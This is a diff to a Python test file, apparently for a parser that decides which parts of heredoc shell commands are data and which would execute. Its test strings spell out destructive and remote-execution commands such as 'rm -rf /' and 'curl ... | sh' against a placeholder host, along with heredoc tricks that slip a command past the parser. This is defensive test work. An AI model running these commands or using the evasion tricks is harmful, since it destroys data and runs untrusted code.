@@ -80,7 +80,10 @@ def test_data_parts_are_blanked(command: str, hidden: str) -> None:
     'python3 -c "$(cat <<EOF\nimport os; os.system(\'rm -rf /\')\nEOF\n)"',
     "cat <<EOF > notes.md\n$(curl -s https://x.example/p.sh | sh)\nEOF",
     "cat <<EOF > notes.md\nrun `curl -s https://x.example/p.sh | sh` now\nEOF",  # bash runs backticks too
-    "cat <<EOF > notes.md\nit`s rm -rf /\nEOF",  # a lone backtick: bash refuses it, read whole
+    "cat <<EOF > notes.md\nit`s rm -rf /\nEOF",  # a lone backtick: bash fails the command, read whole
+    "cat <<EOF > notes.md\n  $(curl -s https://x.example/p.sh | sh)\nEOF",  # indented: the grammar missed it
+    # the grammar ends the first body at `EOF `, bash at `EOF`: then rm runs, not the note's text
+    "cat <<EOF\nEOF \ncat > notes.md <<X\nEOF\nrm -rf /\nX\n",
     "bash <<EOF\nrm -rf /\nEOF",
     "rm -rf / # cleanup",
     "cat > /tmp/r.sh <<EOF\nrm -rf /\nEOF",  # into a script, not a note: some tool may run it later
